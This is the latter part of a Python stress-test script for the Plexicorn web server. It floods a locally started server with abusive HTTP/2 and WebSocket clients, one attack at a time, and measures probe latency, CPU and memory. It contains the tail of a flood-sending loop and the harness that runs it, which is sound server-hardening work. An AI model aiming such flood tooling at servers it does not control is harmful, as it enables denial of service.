            frames, pending_units = produced or (b"", 0)
            pending = memoryview(acks + frames)
        wants_write = len(pending) > 0
        waiting = not wants_write and not exhausted  # for a window or a stream slot
        readable = [wire.sock] if drain else []
        before = time.monotonic()
        if drain and wire.has_buffered():
            ready_r, ready_w = [wire.sock], []
        elif readable or wants_write:
            ready_r, ready_w, _ = select.select(readable, [wire.sock] if wants_write else [], [],
                                                min(0.05, max(0.0, deadline - now)))
            if wants_write and not ready_w:
                result.send_blocked += time.monotonic() - before
        else:
            time.sleep(min(0.05, max(0.0, deadline - now)))  # nothing to send, not reading
            ready_r = ready_w = []
        if waiting:
            result.source_waited += time.monotonic() - before
        if ready_r:
            reader.feed(wire.try_recv())
        if ready_w:
            # Write until the socket is full, but come back to reading at least every 1 MiB.
            written = 0
            while pending and written < (1 << 20):
                n = wire.try_send(pending)
                if n == 0:
                    break
                pending = pending[n:]
                written += n
            if not pending:
                units += pending_units
                pending_units = 0
    ended = end_seen()
    in_flight = 0
    if pending_units and pending.nbytes:  # part of the last batch was written
        total = max(1, len(pending.obj))  # type: ignore[arg-type]
        in_flight = int(pending_units * (total - pending.nbytes) / total)
    result.units = units + in_flight
    if ended:
        result.units_at_end = result.units
        result.t_end = time.monotonic() - t0
    # Wait briefly for what follows: the close after a GOAWAY or a WebSocket Close, or an end
    # already on its way when the time ran out (with --no-drain: all the unread backlog).
    tail = END_TAIL if ended else (FINAL_READ if drain else NO_DRAIN_FINAL_READ)
    tail_deadline = time.monotonic() + tail
    while not wire.eof and time.monotonic() < tail_deadline:
        if wire.has_buffered() or select.select([wire.sock], [], [], max(0.0, tail_deadline - time.monotonic()))[0]:
            reader.feed(wire.try_recv())
    final = end_seen()
    if final and (not ended or (ended.startswith("TCP") and not final.startswith("TCP"))):
        # Seen only now: a GOAWAY read after the time ran out, or one that waited behind the
        # reset our write ran into (we were not reading). The time is when we saw the reset.
        if not ended:
            result.units_at_end = result.units
            result.t_end = time.monotonic() - t0
        if not drain:
            result.details.append("end read after the attack" if not ended else "GOAWAY read after the reset")
        ended = final
    if ended:
        suffix = ""
        if not ended.startswith("TCP") and (wire.eof or wire.write_failed):
            suffix = " +reset" if wire.reset else " +close"
        result.ended_by = ended + suffix
    result.details.extend(reader.details())


# --- the server, the probe, the sampler ----------------------------------------------------------

class ServerProcess:
    """`python -m plexicorn benchmarks.app:app --bind 127.0.0.1:0 ...`; the port comes from its log."""

    def __init__(self, tls: bool, work_dir: Path, extra_args: list[str]) -> None:
        self.tls = tls
        self.command = [sys.executable, "-m", "plexicorn", APP, "--bind", f"{HOST}:0", "--no-access-log",
                        "--log-level", "info", "--lifespan", "on"]
        if tls:
            self.command += ["--dev-cert", "--certs-dir", str(work_dir / "certs")]
        self.command += extra_args
        self.log_path = work_dir / "server.log"
        self.port = 0
        self.lines: list[tuple[float, str]] = []  # (monotonic time, line)
        self._listening = threading.Event()
        self.process = subprocess.Popen(
            self.command, cwd=REPO, env=dict(os.environ, PYTHONUNBUFFERED="1"), stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True)
        self._reader = threading.Thread(target=self._read_log, name="server-log", daemon=True)
        self._reader.start()

    @property
    def pid(self) -> int:
        return self.process.pid

    def _read_log(self) -> None:
        assert self.process.stdout is not None
        with open(self.log_path, "w", encoding="utf-8", errors="replace") as log:
            for raw in self.process.stdout:
                line = raw.decode("utf-8", "replace").rstrip("\n")
                log.write(line + "\n")
                self.lines.append((time.monotonic(), line))
                if not self._listening.is_set():
                    match = _LISTENING.search(line)
                    if match:
                        self.port = int(match.group(2))
                        self._listening.set()
        self._listening.set()  # exited: a start failure leaves port 0

    def wait_ready(self) -> None:
        if not self._listening.wait(START_TIMEOUT) or not self.port:
            raise RuntimeError("the server did not start:\n" + self.log_tail())
        with socket.create_connection((HOST, self.port), timeout=5):
            pass

    def alive(self) -> bool:
        return self.process.poll() is None

    def stop(self) -> int | None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(15)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        self._reader.join(5)
        return self.process.returncode

    def log_tail(self, n: int = 15) -> str:
        return "\n".join("    " + line for _, line in self.lines[-n:])

    def problems_between(self, start: float, end: float) -> tuple[int, str | None]:
        """Warning/error lines logged in [start, end] and the first one's message."""
        count, first = 0, None
        for when, line in list(self.lines):
            if start <= when <= end:
                match = _LOG_LEVEL.match(line)
                if match:
                    count += 1
                    # The peer's address differs on every line and says nothing here.
                    first = first or re.sub(r" ?(from )?\('127\.0\.0\.1', \d+\)", "", match.group(2))
        return count, first


@dataclasses.dataclass
class Sample:
    sent: float  # monotonic time the request was sent
    latency: float | None  # seconds; None: failed
    error: str | None = None


class Probe(threading.Thread):
    """GET / every PROBE_INTERVAL on one HTTP/2 connection (httpx reconnects after a failure)."""

    def __init__(self, url: str, h2c: bool, timeout: float) -> None:
        super().__init__(name="probe", daemon=True)
        self.url = url
        self.h2c = h2c
        self.timeout = timeout
        self.samples: list[Sample] = []
        self.protocol: str | None = None
        self.ready = threading.Event()
        self.stop = threading.Event()

    def run(self) -> None:
        import httpx

        # h2c: http1=False makes httpx speak HTTP/2 with prior knowledge.
        with httpx.Client(http1=not self.h2c, http2=True, verify=False, timeout=self.timeout) as client:
            try:  # warm-up: the connection (and TLS handshake) is not part of the measurement
                self.protocol = client.get(self.url).http_version
            except httpx.HTTPError as exc:
                self.protocol = f"failed: {type(exc).__name__}"
            self.ready.set()
            next_at = time.monotonic()
            while not self.stop.is_set():
                wait = next_at - time.monotonic()
                if wait > 0:
                    self.stop.wait(wait)
                    continue
                sent = time.monotonic()
                try:
                    response = client.get(self.url)
                    latency = time.monotonic() - sent
                    ok = response.status_code == 200 and response.http_version == "HTTP/2"
                    self.samples.append(Sample(sent, latency if ok else None,
                                               None if ok else f"{response.http_version} {response.status_code}"))
                except httpx.HTTPError as exc:
                    self.samples.append(Sample(sent, None, type(exc).__name__))
                # Keep the cadence, but after a slow answer send the next one at once, not a burst.
                next_at = max(next_at + PROBE_INTERVAL, time.monotonic())


def read_rss_kib(pid: int) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def read_cpu_seconds(pid: int) -> float | None:
    try:
        stat = Path(f"/proc/{pid}/stat").read_text()
    except OSError:
        return None
    fields = stat.rsplit(")", 1)[1].split()  # after "(comm)", which may hold spaces
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")  # utime + stime


class Sampler(threading.Thread):
    """The server's RSS every 20 ms: the peak of a short spike is what matters."""

    def __init__(self, pid: int) -> None:
        super().__init__(name="rss-sampler", daemon=True)
        self.pid = pid
        self.peak_kib = 0
        self.stop = threading.Event()

    def run(self) -> None:
        while not self.stop.is_set():
            rss = read_rss_kib(self.pid)
            if rss is not None:
                self.peak_kib = max(self.peak_kib, rss)
            self.stop.wait(0.02)


# --- one measurement -------------------------------------------------------------------------------

@dataclasses.dataclass
class Row:
    attack: str
    probe_requests: int = 0
    probe_p50_ms: float | None = None
    probe_p99_ms: float | None = None
    probe_max_ms: float | None = None
    probe_failures: int = 0
    probe_first_error: str | None = None
    server_cpu_percent: float | None = None
    rss_before_mib: float | None = None
    rss_peak_mib: float | None = None
    rss_after_mib: float | None = None
    ended_by: str = "-"
    t_end_s: float | None = None
    units_sent: int = 0
    units_at_end: int | None = None
    unit: str = ""
    send_blocked_s: float = 0.0
    waited_for_room_s: float = 0.0
    details: list[str] = dataclasses.field(default_factory=list)
    server_log_problems: int = 0
    server_log_first_problem: str | None = None
    attacker_error: str | None = None


def percentile(sorted_values: list[float], q: float) -> float:
    """Nearest rank: with 20 samples p99 is the largest, which is the honest answer."""
    return sorted_values[max(0, math.ceil(q * len(sorted_values)) - 1)]


def measure(name: str, server: ServerProcess, args: argparse.Namespace) -> Row:
    row = Row(attack=name)
    tls = args.transport == "tls"
    url = f"{'https' if tls else 'http'}://{HOST}:{server.port}/"
    probe = Probe(url, h2c=not tls, timeout=args.probe_timeout)
    probe.start()
    probe.ready.wait(args.probe_timeout + 5)
    if probe.protocol != "HTTP/2":
        row.details.append(f"probe protocol: {probe.protocol}")
    rss_before = read_rss_kib(server.pid)
    cpu_before = read_cpu_seconds(server.pid)
    sampler = Sampler(server.pid)
    sampler.start()
    reports: Any = None
    attacker: Any = None
    result: dict[str, Any] | None = None
    t0 = time.monotonic()
    try:
        if name != BASELINE:
            mp = multiprocessing.get_context("spawn")  # no fork of this process's threads
            reports = mp.Queue()
            attacker = mp.Process(target=run_attacker, name=f"attacker-{name}", daemon=True,
                                  args=(name, server.port, tls, args.seconds, not args.no_drain, reports))
            attacker.start()
            t0 = _await_start(reports, attacker)
            cpu_before = read_cpu_seconds(server.pid)
            rss_before = read_rss_kib(server.pid) or rss_before
        # The probe is measured over the whole attack time, also after an early end: a server
        # still digesting the flood (or leaking memory) shows there.
        window_end = t0 + args.seconds
        while time.monotonic() < window_end:
            time.sleep(min(0.05, max(0.0, window_end - time.monotonic())))
            if result is None and reports is not None:
                result = _poll_result(reports)
        cpu_after = read_cpu_seconds(server.pid)
        if attacker is not None and result is None:
            result = _poll_result(reports, timeout=END_TAIL + NO_DRAIN_FINAL_READ + 5)
    finally:
        probe.stop.set()
        sampler.stop.set()
        if attacker is not None:
            attacker.join(5)
            if attacker.is_alive():
                attacker.kill()
                attacker.join(5)
        probe.join(args.probe_timeout + 5)
        sampler.join(1)
    window_end = t0 + args.seconds
    samples = [s for s in probe.samples if t0 <= s.sent < window_end]
    row.probe_requests = len(samples)
    good = sorted(s.latency for s in samples if s.latency is not None)
    failures = [s for s in samples if s.latency is None]
    row.probe_failures = len(failures)
    row.probe_first_error = failures[0].error if failures else None
    if good:
        row.probe_p50_ms = percentile(good, 0.50) * 1000
        row.probe_p99_ms = percentile(good, 0.99) * 1000
        row.probe_max_ms = good[-1] * 1000
    if cpu_before is not None and cpu_after is not None:
        row.server_cpu_percent = 100 * (cpu_after - cpu_before) / args.seconds
    mib = 1 / 1024
    row.rss_before_mib = rss_before * mib if rss_before else None
    row.rss_peak_mib = max(sampler.peak_kib, rss_before or 0) * mib or None
    rss_after = read_rss_kib(server.pid)
    row.rss_after_mib = rss_after * mib if rss_after else None
    if name != BASELINE:
        if result is None:
            row.ended_by = "attacker did not report"
        else:
            row.ended_by = result["ended_by"]
            row.t_end_s = result["t_end"]
            row.units_sent = result["units"]
            row.units_at_end = result["units_at_end"]
            row.unit = result["unit"]
            row.send_blocked_s = result["send_blocked"]
            row.waited_for_room_s = result["source_waited"]
            row.details += result["details"]
            row.attacker_error = result["error"]
    row.server_log_problems, row.server_log_first_problem = server.problems_between(t0, time.monotonic())
    if not server.alive():
        row.details.append(f"SERVER EXITED with status {server.process.returncode}")
    return row


def _await_start(reports: Any, attacker: Any) -> float:
    """The attacker's first-frame time (CLOCK_MONOTONIC is shared by processes on Linux)."""
    deadline = time.monotonic() + HANDSHAKE_TIMEOUT + 15
    while time.monotonic() < deadline:
        try:
            kind, value = reports.get(timeout=0.1)
        except Exception:  # noqa: BLE001  (queue.Empty)
            if not attacker.is_alive():
                break
            continue
        if kind == "started":
            return value
        reports.put((kind, value))  # a result before any start: the connection failed
        break
    return time.monotonic()


def _poll_result(reports: Any, timeout: float = 0.0) -> dict[str, Any] | None:
    deadline = time.monotonic() + timeout
    while True:
        try:
            kind, value = reports.get(timeout=max(0.01, deadline - time.monotonic()))
        except Exception:  # noqa: BLE001  (queue.Empty)
            if time.monotonic() >= deadline:
                return None
            continue
        if kind == "result":
            return value


# --- report ----------------------------------------------------------------------------------------

def _ms(value: float | None) -> str:
    if value is None:
        return "-"
    return f"{value:.1f}" if value < 100 else f"{value:,.0f}"


def _count(value: int | None) -> str:
    return "-" if value is None else f"{value:,}"


def format_table(rows: list[Row]) -> str:
    header = ("attack", "probe n", "p50 ms", "p99 ms", "max ms", "fail", "srv CPU", "RSS MiB before>peak>after",
              "attacking connection ended by", "after s", "sent", "notes")
    table = [header]
    for r in rows:
        rss = "-" if r.rss_before_mib is None else (
            f"{r.rss_before_mib:.0f}>{r.rss_peak_mib or 0:.0f}>{r.rss_after_mib or 0:.0f}")
        if r.unit:
            sent = f"{_count(r.units_sent)} {r.unit}"
            if r.units_at_end is not None and r.units_at_end != r.units_sent:
                sent += f" ({_count(r.units_at_end)} at end)"
        else:
            sent = "-"
        notes = list(r.details)
        if r.send_blocked_s >= 0.1:
            notes.append(f"send blocked {r.send_blocked_s:.1f}s")
        if r.waited_for_room_s >= 0.1:
            notes.append(f"waited {r.waited_for_room_s:.1f}s for window/streams")
        if r.probe_first_error:
            notes.append(f"probe: {r.probe_first_error}")
        if r.server_log_problems:
            notes.append(f"{r.server_log_problems} log warnings/errors, first: {(r.server_log_first_problem or '')[:100]}")
        if r.attacker_error:
            notes.append(r.attacker_error[:80])
        table.append((
            r.attack, str(r.probe_requests), _ms(r.probe_p50_ms), _ms(r.probe_p99_ms), _ms(r.probe_max_ms),
            str(r.probe_failures), "-" if r.server_cpu_percent is None else f"{r.server_cpu_percent:.0f}%",
            rss, r.ended_by, "-" if r.t_end_s is None else f"{r.t_end_s:.2f}", sent, "; ".join(notes)))
    widths = [max(len(row[i]) for row in table) for i in range(len(header) - 1)]
    right = {1, 2, 3, 4, 5, 6, 7, 9}
    lines = []
    for i, row in enumerate(table):
        cells = [cell.rjust(widths[j]) if j in right else cell.ljust(widths[j]) for j, cell in enumerate(row[:-1])]
        lines.append("  ".join(cells + [row[-1]]).rstrip())
        if i == 0:
            lines.append("  ".join("-" * w for w in widths) + "  -----")
    return "\n".join(lines)


def summary(rows: list[Row], elapsed: float) -> str:
    attacks = [r for r in rows if r.attack != BASELINE]
    endings = Counter(_ending_kind(r.ended_by) for r in attacks)
    parts = [f"{len(attacks)} attack(s) in {elapsed:.0f} s"]
    parts.append(", ".join(f"{n} {kind}" for kind, n in endings.most_common()))
    measured = [r for r in attacks if r.probe_p99_ms is not None]
    if measured:
        worst = max(measured, key=lambda r: r.probe_p99_ms or 0)
        parts.append(f"worst probe p99 {_ms(worst.probe_p99_ms)} ms ({worst.attack})")
    grown = [r for r in attacks if r.rss_peak_mib is not None and r.rss_before_mib is not None]
    if grown:
        most = max(grown, key=lambda r: (r.rss_peak_mib or 0) - (r.rss_before_mib or 0))
        parts.append(f"largest RSS growth +{(most.rss_peak_mib or 0) - (most.rss_before_mib or 0):.0f} MiB "
                     f"({most.attack})")
    parts.append(f"probe failures {sum(r.probe_failures for r in attacks)}")
    baseline = next((r for r in rows if r.attack == BASELINE), None)
    if baseline and baseline.probe_p99_ms is not None:
        parts.append(f"baseline p99 {_ms(baseline.probe_p99_ms)} ms")
    return "Summary: " + "; ".join(parts)


def _ending_kind(ended_by: str) -> str:
    if ended_by.startswith("GOAWAY ENHANCE_YOUR_CALM"):
        return "GOAWAY(ENHANCE_YOUR_CALM)"
    if ended_by.startswith("GOAWAY"):
        return "GOAWAY(other)"
    if ended_by.startswith("WS Close 1008"):
        return "WS Close 1008"
    return ended_by.split(" +")[0] if ended_by in ("still open", "TCP close", "TCP reset") else "other"


def describe_machine() -> str:
    cpus = len(os.sched_getaffinity(0)) if hasattr(os, "sched_getaffinity") else os.cpu_count()
    return f"{cpus} CPU(s), {platform.system()} {platform.release()}, Python {platform.python_version()}"


# --- main ----------------------------------------------------------------------------------------

def parse_args(argv: list[str] | None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="Flood one Plexicorn server with abusive clients, one attack at a time, and "
                    "measure what a well-behaved client of the same server sees.")
    parser.add_argument("--attack", action="append", metavar="NAME", default=None,
                        help="an attack to run (repeatable or comma-separated; default: all). "
                             "See --list.")
    parser.add_argument("--list", action="store_true", help="list the attacks and exit")
    parser.add_argument("--seconds", type=float, default=3.0, help="seconds per attack (default 3)")
    parser.add_argument("--transport", choices=("tls", "h2c"), default="tls",
                        help="tls: HTTPS with ALPN (h2, or http/1.1 for the HTTP/1.1 attacks); "
                             "h2c: cleartext, HTTP/2 by prior knowledge (default tls)")
    parser.add_argument("--no-baseline", action="store_true",
                        help="skip the first row, the probe alone with no attacker")
    parser.add_argument("--no-drain", action="store_true",
                        help="the attacker never reads during the attack (only afterwards, to see "
                             "how it ended), so the server's answers pile up unread")
    parser.add_argument("--probe-timeout", type=float, default=5.0,
                        help="seconds before a probe request counts as failed (default 5)")
    parser.add_argument("--cool-down", type=float, default=1.0,
                        help="seconds between attacks, for the server to settle (default 1)")
    parser.add_argument("--server-arg", action="append", default=[], metavar="ARG",
                        help="an extra flag for the server, e.g. --server-arg=--h2-max-resets=100 "
                             "(repeatable)")
    parser.add_argument("--json", type=Path, metavar="FILE", help="also write the results as JSON")
    args = parser.parse_args(argv)
    if args.list:
        return args
    if not 0 < args.seconds <= 600:
        parser.error("--seconds must be in (0, 600]")
    if args.probe_timeout <= 0 or args.cool_down < 0:
        parser.error("--probe-timeout must be positive and --cool-down not negative")
    names = [n.strip() for item in (args.attack or []) for n in item.split(",") if n.strip()]
    unknown = [n for n in names if n not in ATTACK_NAMES]
    if unknown:
        parser.error(f"unknown attack(s) {', '.join(unknown)}; choose from: {', '.join(ATTACK_NAMES)}")
    args.attacks = names or list(ATTACK_NAMES)
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    if args.list:
        for attack in ATTACKS:
            print(f"{attack.name:<22} {attack.summary}")
        return 0
    if not Path("/proc/self/status").exists():
        print("abuse.py reads the server's memory from /proc: Linux only", file=sys.stderr)
        return 2
    names = ([] if args.no_baseline else [BASELINE]) + args.attacks

    def terminated(signum: int, frame: object) -> None:
        raise KeyboardInterrupt  # SIGTERM too goes through the finally that stops the server
    signal.signal(signal.SIGTERM, terminated)
    rows: list[Row] = []
    started = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="plexicorn-abuse-") as tmp:
        server: ServerProcess | None = None
        try:
            for index, name in enumerate(names):
                if server is None or not server.alive():
                    if server is not None:  # it died in the previous attack: a fresh one for the rest
                        server.stop()
                        print(f"  (server exited with status {server.process.returncode}; restarting)", flush=True)
                    server = ServerProcess(args.transport == "tls", Path(tmp), args.server_arg)
                    try:
                        server.wait_ready()
                    except (RuntimeError, OSError) as exc:
                        print(f"abuse.py: could not start Plexicorn: {exc}", file=sys.stderr)
                        return 1
                    if index == 0:
                        print(f"Plexicorn pid {server.pid} on {args.transport} port {server.port}: "
                              + " ".join(server.command[1:]), flush=True)
                print(f"  {name:<22} ...", end="", flush=True)
                row = measure(name, server, args)
                rows.append(row)
                print(f" p99 {_ms(row.probe_p99_ms)} ms, {row.ended_by}", flush=True)
                if index < len(names) - 1:
                    time.sleep(args.cool_down)
        except KeyboardInterrupt:
            print("\ninterrupted: server stopped", file=sys.stderr)
            return 130
        finally:
            if server is not None:
                server.stop()
    elapsed = time.monotonic() - started
    print()
    print(f"{describe_machine()}; transport {args.transport}; {args.seconds:g} s per attack; "
          f"probe GET / every {PROBE_INTERVAL * 1000:.0f} ms"
          + ("; attacker does not read (--no-drain)" if args.no_drain else ""))
    print(format_table(rows))
    print(summary(rows, elapsed))
    if args.json:
        args.json.write_text(json.dumps({
            "machine": describe_machine(), "transport": args.transport, "seconds": args.seconds,
            "drain": not args.no_drain, "server_args": args.server_arg,
            "rows": [dataclasses.asdict(r) for r in rows]}, indent=2) + "\n")
        print(f"Results written to {args.json}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
